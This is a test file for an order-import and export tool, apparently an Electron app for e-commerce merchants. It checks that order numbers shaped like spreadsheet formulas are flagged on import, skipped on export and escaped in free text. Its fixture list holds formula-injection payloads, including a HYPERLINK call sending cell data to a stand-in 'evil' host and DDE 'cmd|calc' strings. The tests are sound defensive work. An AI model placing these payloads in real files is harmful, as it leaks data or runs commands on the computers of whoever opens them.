import { readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { guardedText } from '../../../electron/imports/writers/writeDelimited.ts';
import { importOrders } from '../../../electron/usecases/intake/importOrders.ts';
import { writeBack } from '../../../electron/usecases/writeback/writeBack.ts';
import { isOddOrderNo } from '../../../shared/rules/orderCode.ts';
import { openTestWorkspace, type TestWorkspace } from '../../doubles/workspace/openTestWorkspace.ts';
import { sampleOrder } from '../../doubles/workspace/sampleOrder.ts';

const formulas = [
  '=HYPERLINK("http://evil/"&A1)',
  "@SUM(1+9)*cmd|' /C calc'!A0",
  '+49000000000',
  '-2+3+cmd|calc',
  '＝1+1',
  '＋49000',
  '－2＋3',
  '＠SUM(1)',
];
/** Shapes of the platforms that files are read from, and what merchants write themselves. */
const numbers = [
  '7731234567890123456',
  '260101-123456789012345',
  'E20260101120000000001',
  'P712345678901234567',
  'JY202601010001',
  '111-1234567-1234567',
  '#1001',
  '【补】7731234567890123456',
  '7731234567890123456-P2',
  '样品 3（补发）',
  '6900000000001,6900000000002',
  '1',
];

let workspace: TestWorkspace;
beforeEach(async () => {
  workspace = await openTestWorkspace();
});
afterEach(() => workspace.close());

describe('an order number that a spreadsheet program would run', () => {
  it.each(numbers)('is not seen in %s', (orderNo) => expect(isOddOrderNo(orderNo)).toBe(false));

  it.each(formulas)('%s goes to a person at its import, who may accept it', async (orderNo) => {
    expect(isOddOrderNo(orderNo)).toBe(true);
    const path = join(workspace.folder, 'orders.csv');
    const cells = [orderNo, '赵样例', '13800000001', '广东省深圳市南山区科技园路1号', '样品'];
    const line = cells.map((cell) => `"${cell.replaceAll('"', '""')}"`).join(',');
    writeFileSync(path, `订单号,收货人,手机,收货地址,商品名称\n${line}\n`);
    await importOrders(workspace, { path, minConfidence: 0.7, isDryRun: false });
    const [order] = await workspace.store.read.orders.window({}, { offset: 0, limit: 10 });
    // Full-width signs are stored half-width, and are no less odd for it.
    const stored = orderNo.normalize('NFKC');
    expect(order).toMatchObject({ orderNo: stored, state: 'needs-review', errorCode: 'ORDER_NO_ODD' });
  });

  it.each([
    ['pinduoduo', 'csv'],
    ['woocommerce', 'csv'],
    ['amazon', 'txt'],
    ['taobao', 'xlsx'],
  ])('is told and left out of what %s reads, and never altered (%s)', async (template) => {
    const booked = (no: number, orderNo: string) =>
      sampleOrder(no, {
        orderNo,
        state: 'booked',
        shipmentState: 'booked',
        bookedCarrier: 'YTO',
        waybillNo: `YT000000000000${no}`,
        platform: 'kdniao',
      });
    const orders = [...formulas, '7731234567890123456'].map((orderNo, no) => booked(no + 1, orderNo));
    await workspace.store.write((write) => write.orders.insertMany(orders));
    const written = await writeBack(workspace, { again: false, template });
    if (!written.ok) throw new Error(written.code);
    expect(written.value.written).toBe(1);
    expect(written.value.skipped).toEqual(
      formulas.map((orderNo) => ({ orderNo, code: 'WRITEBACK_NUMBER_ODD' })),
    );
    const text = readFileSync(written.value.files[0]?.path ?? '', 'latin1');
    expect(text).not.toMatch(/HYPERLINK|SUM|49000|cmd/);
  });
});

describe('free text in a file that people open', () => {
  it('stays text, in full-width signs too, and a number below zero stays a number', () => {
    for (const formula of formulas) expect(guardedText(formula)).toBe(`'${formula}`);
    for (const text of ['-5', '-1,200.50', '-', '——', '13800000001', '广东省'])
      expect(guardedText(text)).toBe(text);
  });
});
